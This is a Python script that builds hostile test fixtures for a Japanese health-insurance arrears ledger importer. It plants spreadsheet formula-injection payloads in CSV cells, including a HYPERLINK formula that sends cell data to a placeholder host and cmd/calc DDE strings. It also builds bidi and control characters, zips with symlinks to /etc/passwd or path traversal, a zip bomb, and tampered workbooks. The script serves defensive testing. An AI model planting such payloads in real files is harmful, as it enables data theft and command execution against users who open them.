"""Make the hostile ledgers and tampered workbooks of issue 16 (no binary fixture is committed: this script is).

    .venv/bin/python scripts/make_hostile_fixtures.py OUT [--base LEDGER_DIR] [--households 3000]
        [--workbooks] [--store STORE] [--month 2026-11] [--bomb-mib 2048]

Writes into OUT (a fresh folder):

- ``ledger_hostile/``: the base ledger (``--base``, else a synthetic ward of ``--households``) with formula-like
  text (``=HYPERLINK(…)``, ``+cmd|…``, ``-2+3…``, ``@SUM…``, full-width ``＝``, a leading tab) in 使用言語 and
  an officer's 氏名, and control / bidi characters (``\\x01``, ``\\x07``, ``\\x0b``, DEL, U+202E, U+2066, an ANSI
  escape) in 使用言語, 氏名 and 折衝記録 メモ. ``cases.json`` beside it lists every planted cell (file, line,
  column, value, kind, expected outcome).
- ``ledger_empty_households/``, ``ledger_empty_charges/``: header-only 世帯.csv / 調定.csv.
- ``ledger_mostly_bad/``: 60 % of 世帯.csv rows with an invalid 所得区分.
- ``ledger_symlink/``: 世帯.csv is a symbolic link (to the base's file).
- ``zip_duplicate.zip`` (two members named 世帯.csv, the second one different), ``zip_symlink.zip``
  (世帯.csv stored as a symbolic link to /etc/passwd), ``zip_traversal.zip`` (members named ``../../…`` and
  ``/abs/…``; still a good ledger), ``zip_bomb.zip`` (世帯.csv of ``--bomb-mib`` MiB of repeated rows, ~1000:1).
- ``encrypted.xlsx``: an OLE compound file with ``EncryptionInfo`` / ``EncryptedPackage`` streams, what Excel
  saves for a password-protected workbook.
- with ``--workbooks`` (needs ``--store`` with ``--month`` issued and its lists written under ``--lists``, or
  builds one): tampered workbooks for issue 16 §3 and §4 under ``workbooks/`` — a returns workbook with two rows
  of one key, a corrected file and the first draft to ingest after it, a revision-1 file to ingest after a
  reissue; a meeting workbook whose B2 names another month and one with an added row for a household the
  meeting never saw (執行停止を承認). ``workbooks/cases.json`` says what each one is.

Everything is synthetic (模擬データ).
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import json
import os
import shutil
import stat
import struct
import sys
import zipfile
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from openpyxl import load_workbook  # noqa: E402

from kokuho_nb.casework.sheets import DECISION_FIELDS, DECISIONS_HEADER_ROW  # noqa: E402
from kokuho_nb.contract import codes  # noqa: E402
from kokuho_nb.ledger.importer import import_ledger  # noqa: E402
from kokuho_nb.meeting import build_pack  # noqa: E402
from kokuho_nb.meeting.excel import write_workbook as write_pack_workbook  # noqa: E402
from kokuho_nb.months import Month  # noqa: E402
from kokuho_nb.store import Store  # noqa: E402
from kokuho_nb.synth import generate  # noqa: E402
from kokuho_nb.targets.render import render_lists  # noqa: E402
from kokuho_nb.targets.workbook import FIRST_ROW, column_letters  # noqa: E402
from kokuho_nb.xlsx import set_cell, workbook_bytes, write_cell  # noqa: E402

FORMULAS = [
    '=HYPERLINK("http://x.invalid/?"&C4&D4,"日本語")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals: NFKC makes it "=1+1"
    "\t=1+1",  # a leading tab
]
CONTROLS = [
    "日本\x01語",
    "中国\x0b語",
    "\u202e語本日",  # right-to-left override: displays as 日本語
    "英語\x7f",
    "ベトナム語\u2066",
]
OFFICER_FORMULA = '=HYPERLINK("http://x.invalid/","清水　直樹")'
OFFICER_CONTROL = "山田\x07太郎"
MEMO_CONTROL = "催告書送付\x1b[31m（赤字）"


# ---------------------------------------------------------------- CSV helpers
def _read(path: Path) -> tuple[list[str], list[list[str]]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def _write(path: Path, header: list[str], rows: list[list[str]]) -> None:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def _copy_ledger(base: Path, out: Path) -> Path:
    if out.exists():
        shutil.rmtree(out)
    shutil.copytree(base, out, symlinks=False)
    return out


def synthetic_base(folder: Path, households: int, seed: int = 7) -> Path:
    """A synthetic ward to plant the cases into (``kokuho_nb.synth.generate``, as of 2026-11-26)."""
    return Path(generate(folder, seed=seed, households=households, as_of=dt.date(2026, 11, 26)))


# ---------------------------------------------------------------- the hostile ledger
def hostile_ledger(base: Path, out: Path, *, every: int = 40) -> list[dict[str, Any]]:
    """Copy ``base`` to ``out`` and plant the cases; returns them (also written to ``out/../cases.json``).

    Every ``every``-th household gets a formula-like 使用言語 (so that some are on the month's lists); the
    control / bidi values go to the first households; an officer's name gets a formula, another's a BEL."""
    _copy_ledger(base, out)
    cases: list[dict[str, Any]] = []
    header, rows = _read(out / "世帯.csv")
    lang = header.index("使用言語")
    for i, text in enumerate(CONTROLS):
        rows[i][lang] = text
        cases.append({"id": f"control-{i + 1}", "file": "世帯.csv", "line": i + 2, "column": "使用言語", "value": text,
                      "kind": "control", "expected": "quarantined"})
    k = 0
    for i in range(len(CONTROLS), len(rows), every):
        text = FORMULAS[k % len(FORMULAS)]
        rows[i][lang] = text
        cases.append({"id": f"formula-{k + 1}", "file": "世帯.csv", "line": i + 2, "column": "使用言語", "value": text,
                      "kind": "formula", "expected": "accepted, reported, text in workbooks"})
        k += 1
    _write(out / "世帯.csv", header, rows)

    header, rows = _read(out / "担当者.csv")
    name, role = header.index("氏名"), header.index("役職")
    officers = [i for i, r in enumerate(rows) if r[role] == codes().role.collector]
    rows[officers[0]][name] = OFFICER_FORMULA
    cases.append({"id": "officer-formula", "file": "担当者.csv", "line": officers[0] + 2, "column": "氏名",
                  "value": OFFICER_FORMULA, "kind": "formula", "expected": "accepted, reported, text in workbooks"})
    rows[officers[-1]][name] = OFFICER_CONTROL
    cases.append({"id": "officer-control", "file": "担当者.csv", "line": officers[-1] + 2, "column": "氏名",
                  "value": OFFICER_CONTROL, "kind": "control", "expected": "quarantined"})
    _write(out / "担当者.csv", header, rows)

    if (out / "折衝記録.csv").exists():
        header, rows = _read(out / "折衝記録.csv")
        if rows:
            memo = header.index("メモ")
            rows[0][memo] = MEMO_CONTROL
            cases.append({"id": "memo-control", "file": "折衝記録.csv", "line": 2, "column": "メモ",
                          "value": MEMO_CONTROL, "kind": "control", "expected": "quarantined"})
            _write(out / "折衝記録.csv", header, rows)
    return cases


def empty_ledgers(base: Path, out: Path) -> list[dict[str, Any]]:
    cases = []
    for file, name in (("世帯.csv", "ledger_empty_households"), ("調定.csv", "ledger_empty_charges")):
        folder = _copy_ledger(base, out / name)
        header, _rows = _read(folder / file)
        _write(folder / file, header, [])
        cases.append({"id": name, "path": name, "kind": "empty", "file": file, "expected": "refused"})
    folder = _copy_ledger(base, out / "ledger_mostly_bad")
    header, rows = _read(folder / "世帯.csv")
    col = header.index("所得区分")
    for i in range(len(rows)):
        if i % 5 < 3:
            rows[i][col] = "軽減9割"
    _write(folder / "世帯.csv", header, rows)
    cases.append({"id": "ledger_mostly_bad", "path": "ledger_mostly_bad", "kind": "quarantined_share",
                  "file": "世帯.csv", "expected": "refused"})
    folder = _copy_ledger(base, out / "ledger_symlink")
    (folder / "世帯.csv").unlink()
    os.symlink((base / "世帯.csv").resolve(), folder / "世帯.csv")
    cases.append({"id": "ledger_symlink", "path": "ledger_symlink", "kind": "symlink", "expected": "refused"})
    return cases


# ---------------------------------------------------------------- zips
def _members(base: Path) -> list[Path]:
    return sorted(p for p in base.iterdir() if p.is_file() and p.suffix == ".csv")


def zip_duplicate(base: Path, target: Path) -> dict[str, Any]:
    import warnings

    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": exactly the point
        for p in _members(base):
            zf.writestr(p.name, p.read_bytes())
        header, rows = _read(base / "世帯.csv")
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows([header, *rows[:1]])
        zf.writestr("世帯.csv", buf.getvalue().encode())
    return {"id": "zip_duplicate", "path": target.name, "kind": "zip_duplicate", "expected": "refused"}


def zip_symlink(base: Path, target: Path) -> dict[str, Any]:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for p in _members(base):
            if p.name == "世帯.csv":
                info = zipfile.ZipInfo("世帯.csv")
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                zf.writestr(info, "/etc/passwd")
            else:
                zf.writestr(p.name, p.read_bytes())
    return {"id": "zip_symlink", "path": target.name, "kind": "zip_symlink", "expected": "refused"}


def zip_traversal(base: Path, target: Path) -> dict[str, Any]:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for i, p in enumerate(_members(base)):
            name = f"../../export/{p.name}" if i % 2 == 0 else f"/export/./{p.name}"
            zf.writestr(zipfile.ZipInfo(name), p.read_bytes())
    return {"id": "zip_traversal", "path": target.name, "kind": "zip_traversal",
            "expected": "imported, nothing written outside (members read in place)"}


def zip_bomb(base: Path, target: Path, mib: int) -> dict[str, Any]:
    """世帯.csv of ``mib`` MiB of one repeated row (deflate ratio near its maximum), the other files as they are."""
    header, rows = _read(base / "世帯.csv")
    line = (",".join(rows[0]) + "\n").encode()
    block = line * max(1, (1 << 20) // len(line))
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for p in _members(base):
            if p.name != "世帯.csv":
                zf.writestr(p.name, p.read_bytes())
        with zf.open("世帯.csv", "w", force_zip64=True) as fh:
            fh.write((",".join(header) + "\n").encode())
            for _ in range(mib):
                fh.write(block)
    return {"id": "zip_bomb", "path": target.name, "kind": "zip_bomb", "mib": mib, "expected": "refused"}


# ---------------------------------------------------------------- an encrypted workbook (OLE compound file)
def encrypted_workbook(target: Path) -> Path:
    """A minimal, well-formed compound file (CFB v3) holding the two streams of an encrypted OOXML package;
    the payload is random-looking bytes (nothing to decrypt): what matters is what a reader meets."""
    sector = 512
    end, free, fatsect = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    stream = 4096  # >= the mini-stream cut-off: regular sectors, no mini FAT needed
    per = stream // sector
    info_start, package_start = 2, 2 + per
    fat = [fatsect, end]
    for start in (info_start, package_start):
        fat += [start + i + 1 for i in range(per - 1)] + [end]
    fat += [free] * (sector // 4 - len(fat))
    header = bytearray(sector)
    struct.pack_into("<8s16sHHHHH6sIIIIIIIII", header, 0, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\0" * 16,
                     0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, 1, 1, 0, 4096, end, 0, end, 0)
    difat = [0] + [free] * 108
    struct.pack_into("<109I", header, 76, *difat)

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0" if name else b""
        e = bytearray(128)
        e[: len(raw)] = raw
        struct.pack_into("<HBBIII", e, 64, len(raw), kind, 1, left, right, child)
        struct.pack_into("<IQ", e, 116, start, size)
        return bytes(e)

    directory = (entry("Root Entry", 5, free, free, 1, end, 0)
                 + entry("EncryptionInfo", 2, free, 2, free, info_start, stream)
                 + entry("EncryptedPackage", 2, free, free, free, package_start, stream)
                 + entry("", 0, free, free, free, 0, 0))
    payload = bytes((i * 131 + 7) % 251 for i in range(stream))
    data = bytes(header) + struct.pack(f"<{sector // 4}I", *fat) + directory + payload + payload
    target.write_bytes(data)
    return target


# ---------------------------------------------------------------- tampered workbooks (issue 16 §3, §4)
def tampered_workbooks(store: Path, month: str, lists_dir: Path, pack_xlsx: Path, out: Path) -> list[dict[str, Any]]:
    """Returns and meeting workbooks for the casework ingest (§3, §4): see the module docstring. ``lists_dir``
    holds the month's issued list workbooks (revision 1), ``pack_xlsx`` the month's meeting workbook."""
    out.mkdir(parents=True, exist_ok=True)
    cases: list[dict[str, Any]] = []
    letters = column_letters()
    lists = sorted(lists_dir.glob(f"target_list_{month}_*.xlsx"))
    officer_list = next(p for p in lists if "CENTRE" not in p.name and "SPECIALISTS" not in p.name)
    day = Month.parse(month).start + dt.timedelta(days=3)

    def filled(result: str, memo: str, rows: int = 5) -> Any:
        wb = load_workbook(officer_list)
        ws = wb.worksheets[0]
        for r in range(FIRST_ROW, FIRST_ROW + rows):
            if ws.cell(row=r, column=1).value is None:
                break
            set_cell(ws, f"{letters['contact_date']}{r}", day)
            set_cell(ws, f"{letters['method']}{r}", codes().method.phone)
            set_cell(ws, f"{letters['result']}{r}", result)
            set_cell(ws, f"{letters['memo']}{r}", memo)
        return wb

    corrected = out / "returns_corrected.xlsx"
    corrected.write_bytes(workbook_bytes(filled(codes().result.promise, "訂正版（模擬データ）")))
    draft = out / "returns_first_draft.xlsx"
    draft.write_bytes(workbook_bytes(filled(codes().result.absent, "下書き（模擬データ）")))
    cases.append({"id": "returns-draft-after-corrected", "point": 3, "files": [corrected.name, draft.name],
                  "ingest_order": [corrected.name, draft.name],
                  "expected": "the draft must not silently replace the corrected results (report N would change, "
                              "require --replace)"})
    wb = filled(codes().result.contact, "重複キー（模擬データ）", rows=3)
    ws = wb.worksheets[0]
    extra = ws.max_row + 1
    for c in range(1, ws.max_column + 1):  # a copy of the first data row, key included, with another result
        write_cell(ws, extra, c, ws.cell(row=FIRST_ROW, column=c).value)
    set_cell(ws, f"{letters['result']}{extra}", codes().result.refused)
    dup = out / "returns_duplicate_keys.xlsx"
    dup.write_bytes(workbook_bytes(wb))
    cases.append({"id": "returns-duplicate-keys", "point": 3, "files": [dup.name],
                  "key": ws.cell(row=FIRST_ROW, column=1).value, "rows": [FIRST_ROW, extra],
                  "expected": "refused: two rows with one key in one file"})
    rev1 = out / "returns_revision1_after_reissue.xlsx"
    rev1.write_bytes(workbook_bytes(filled(codes().result.contact, "第1版に記入（模擬データ）")))
    cases.append({"id": "returns-revision1-after-reissue", "point": 3, "files": [rev1.name],
                  "precondition": f"kokuho-nb month run {month} --reissue (revision 2 exists)",
                  "expected": "a warning that a newer revision of the list exists"})

    wb = load_workbook(pack_xlsx)
    ws = wb.worksheets[0]
    other = str(Month.parse(month) - 1)
    set_cell(ws, "B2", other)
    b2 = out / "meeting_b2_changed.xlsx"
    wb.save(b2)
    cases.append({"id": "meeting-b2-other-month", "point": 4, "files": [b2.name], "b2": other, "pack_month": month,
                  "expected": "refused: the month does not match the pack's management sheet"})
    wb = load_workbook(pack_xlsx)
    ws = wb.worksheets[0]
    col = {f: DECISION_FIELDS.index(f) + 1 for f in DECISION_FIELDS}
    presented = {str(ws.cell(row=r, column=col["household_id"]).value)
                 for r in range(DECISIONS_HEADER_ROW + 1, ws.max_row + 1)}
    stranger = _household_not_in(store, presented)
    r = ws.max_row + 1
    last_ref = ws.cell(row=r - 1, column=col["ref"]).value or "C00"
    write_cell(ws, r, col["kind"], ws.cell(row=DECISIONS_HEADER_ROW + 1, column=col["kind"]).value)
    write_cell(ws, r, col["ref"], _next_ref(str(last_ref)))
    write_cell(ws, r, col["household_id"], stranger)
    write_cell(ws, r, col["decision_type"], "執行停止を承認")
    write_cell(ws, r, col["owner_role"], "係長")
    write_cell(ws, r, col["decided_at"], (Month.parse(month).start + dt.timedelta(days=20)))
    added = out / "meeting_added_row.xlsx"
    wb.save(added)
    cases.append({"id": "meeting-added-row", "point": 4, "files": [added.name], "row": r, "household_id": stranger,
                  "expected": "refused: the household was never presented to the meeting"})
    (out / "cases.json").write_text(json.dumps(cases, ensure_ascii=False, indent=1), encoding="utf-8")
    return cases


def _next_ref(ref: str) -> str:
    head = ref.rstrip("0123456789") or "C"
    digits = ref[len(head):] or "0"
    return f"{head}{int(digits) + 1:0{len(digits)}d}"


def _household_not_in(store: Path, presented: set[str]) -> str:
    for hid in Store(store).load().households["household_id"]:
        if hid not in presented:
            return str(hid)
    raise RuntimeError("every household was presented")


def build_workbook_store(ledger: Path, store: Path, month: str, out: Path) -> tuple[Path, Path]:
    """Import ``ledger``, issue ``month`` and write its lists and meeting workbook (no PDF) under ``out``."""
    st = Store(store)
    import_ledger(ledger, st)
    lists_dir = out / "lists"
    render_lists(st, month, lists_dir, summary=False)
    pack = build_pack(month, st)
    pack_xlsx = write_pack_workbook(pack, out / f"meeting_{month}.xlsx")
    return lists_dir, Path(pack_xlsx)


# ---------------------------------------------------------------- all of it
def make_all(out: Path, base: Path | None = None, *, households: int = 3000, bomb_mib: int = 64,
             workbooks: bool = False, store: Path | None = None, month: str = "2026-11") -> dict[str, Any]:
    out.mkdir(parents=True, exist_ok=True)
    if base is None:
        base = synthetic_base(out / "base", households)
    cases = hostile_ledger(base, out / "ledger_hostile")
    (out / "cases.json").write_text(json.dumps(cases, ensure_ascii=False, indent=1), encoding="utf-8")
    inputs = empty_ledgers(base, out)
    inputs.append(zip_duplicate(base, out / "zip_duplicate.zip"))
    inputs.append(zip_symlink(base, out / "zip_symlink.zip"))
    inputs.append(zip_traversal(base, out / "zip_traversal.zip"))
    inputs.append(zip_bomb(base, out / "zip_bomb.zip", bomb_mib))
    encrypted_workbook(out / "encrypted.xlsx")
    inputs.append({"id": "encrypted_workbook", "path": "encrypted.xlsx", "kind": "encrypted_workbook",
                   "expected": "returns ingest says it may be password-protected (Japanese)"})
    (out / "inputs.json").write_text(json.dumps(inputs, ensure_ascii=False, indent=1), encoding="utf-8")
    result: dict[str, Any] = {"base": str(base), "cases": cases, "inputs": inputs}
    if workbooks:
        store = store or out / "workbook-store"
        lists_dir, pack_xlsx = build_workbook_store(base, store, month, out / "workbook-sources")
        result["workbooks"] = tampered_workbooks(store, month, lists_dir, pack_xlsx, out / "workbooks")
    return result


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--base", type=Path, help="a ledger folder to plant the cases into (default: a synthetic ward)")
    ap.add_argument("--households", type=int, default=3000)
    ap.add_argument("--bomb-mib", type=int, default=2048, help="uncompressed size of the zip bomb's 世帯.csv")
    ap.add_argument("--workbooks", action="store_true", help="also the tampered returns / meeting workbooks")
    ap.add_argument("--store", type=Path, help="store for --workbooks (default OUT/workbook-store)")
    ap.add_argument("--month", default="2026-11")
    args = ap.parse_args(argv)
    result = make_all(args.out, args.base, households=args.households, bomb_mib=args.bomb_mib,
                      workbooks=args.workbooks, store=args.store, month=args.month)
    print(json.dumps({"out": str(args.out), "cases": len(result["cases"]), "inputs": len(result["inputs"]),
                      "workbooks": len(result.get("workbooks", []))}, ensure_ascii=False))
    return 0


if __name__ == "__main__":
    sys.exit(main())
